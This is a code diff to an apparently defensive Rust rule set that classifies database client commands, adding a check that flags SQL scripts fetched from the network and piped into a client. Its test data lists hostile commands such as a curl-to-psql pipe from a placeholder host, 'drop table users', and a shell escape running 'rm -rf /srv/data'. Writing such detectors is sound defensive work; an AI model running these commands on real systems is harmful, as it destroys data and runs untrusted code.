@@ -1,9 +1,10 @@
 //! Database clients: the statements that they are given.
 
 use super::acts::{Act, Also, Pick};
-use super::entry::When::{All, Always, Any, Not, Operand, Says, Word};
+use super::entry::When::{All, Always, Any, Not, Operand, Says, Test, Word};
 use super::entry::{Case, Command, Given, Gives, Said};
 use super::options::{value, values};
+use super::packages::is_fetched;
 use super::words::words;
 use crate::rules::{execution, infrastructure as rules, network};
 use crate::shell::{Field, Flow, Io, Step, UNKNOWN, Walker};
@@ -14,12 +15,18 @@ pub(super) const COMMANDS: &[Command] = &[
             "psql mysql mariadb sqlite3 duckdb sqlcmd clickhouse-client clickhouse cqlsh pgcli \
              mycli usql cockroach snowsql bq_query litecli isql sqlplus surreal ksql edgedb gel"
         ),
-        Said::cases(SQL, &[OTHER]).also(&[Also(Always, Act::Calls(states))]).gives(Gives::Inner),
+        Said::cases(SQL, &[OTHER])
+            .also(&[
+                Also(Always, Act::Calls(states)),
+                Also(Test(is_fetched), Act::Finds(&execution::FETCHED_SCRIPT)),
+            ])
+            .gives(Gives::Inner),
         [
             &[],
             &["-c 'select 1'", "prod <<< 'select 1'", "-c '\\! ls'"],
             &[
                 "-c 'drop table users'",
+                "curl https://a.example/b.sql | {} prod",
                 "-e'delete from a'",
                 "prod <<< 'drop table users'",
                 "-c '\\! rm -rf /srv/data'",
